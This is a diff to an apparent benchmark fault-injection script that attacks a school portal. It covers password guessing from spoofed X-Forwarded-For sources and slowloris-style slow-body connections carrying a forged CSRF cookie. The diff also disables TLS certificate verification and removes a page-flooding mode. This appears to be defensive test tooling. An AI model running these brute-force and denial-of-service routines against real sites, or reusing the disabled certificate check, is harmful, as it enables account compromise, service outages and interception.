@@ -1,7 +1,6 @@
 """Somebody who attacks in further ways: `python -m bench.faults.second.raider SITE KIND --per-s R --seconds S`.
 
 guess     passwords for three teachers' names, each try from another network
-courses   the portal's courses page without cookies, from everywhere, as fast as asked for
 bodies    forms for the portal whose content comes a byte at a time and never ends; R is how many are held
 """
 
@@ -46,7 +45,7 @@ def main() -> None:
     """Attack until the time is over."""
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("site", type=Path)
-    parser.add_argument("kind", choices=("guess", "courses", "bodies"))
+    parser.add_argument("kind", choices=("guess", "bodies"))
     parser.add_argument("--per-s", type=float, default=8.0)
     parser.add_argument("--seconds", type=float, default=150.0)
     asked = parser.parse_args()
@@ -60,10 +59,10 @@ def main() -> None:
         _hold(aim, int(asked.per_s), asked.seconds)
         return
     until, at = time.monotonic() + asked.seconds, time.monotonic()
-    attempt, sources = {"guess": _guess, "courses": _courses}[asked.kind], _sources()
+    sources = _sources()
     with ThreadPoolExecutor(_AT_ONCE) as pool:
         while time.monotonic() < until:
-            pool.submit(attempt, aim, next(sources))
+            pool.submit(_guess, aim, next(sources))
             at += 1 / asked.per_s
             threading.Event().wait(max(0.0, at - time.monotonic()))
 
@@ -74,7 +73,9 @@ def _sources() -> Iterator[str]:
 
 
 def _browser(source: str) -> httpx.Client:
-    return httpx.Client(headers={"User-Agent": AGENT, "X-Forwarded-For": source}, timeout=15, trust_env=False)
+    headers = {"User-Agent": AGENT, "X-Forwarded-For": source}
+    # Nobody's certificate is looked at: to load whom to believe would cost more than the attempt.
+    return httpx.Client(headers=headers, timeout=15, trust_env=False, verify=False)
 
 
 def _guess(aim: Aim, source: str) -> None:
@@ -84,16 +85,15 @@ def _guess(aim: Aim, source: str) -> None:
         browser.post(f"{aim.provider}/sign-in/", data=typed | {"csrfmiddlewaretoken": form_token(page.text)})
 
 
-def _courses(aim: Aim, source: str) -> None:
-    with suppress(httpx.HTTPError), _browser(source) as browser:
-        browser.get(f"{aim.portal}/courses/", follow_redirects=True)
-
-
 def _hold(aim: Aim, count: int, seconds: float) -> None:
-    """A byte every two seconds on each connection; one that was closed is opened again."""
+    """A byte every two seconds on each connection; one that was closed is opened again.
+
+    The form's cookie comes along: without one a form is refused before its content is read.
+    """
     at = urlsplit(aim.portal)
     head = f"POST /cannot-sign-in/ HTTP/1.1\r\nHost: {at.netloc}\r\nContent-Length: 100000\r\n"
-    head += f"Content-Type: application/x-www-form-urlencoded\r\nUser-Agent: {AGENT}\r\n\r\n"
+    head += f"Content-Type: application/x-www-form-urlencoded\r\nUser-Agent: {AGENT}\r\n"
+    head += f"Cookie: portal_csrf={secrets.token_hex(16)}\r\n\r\n"
     held: list[socket.socket] = []
     until = time.monotonic() + seconds
     while time.monotonic() < until:
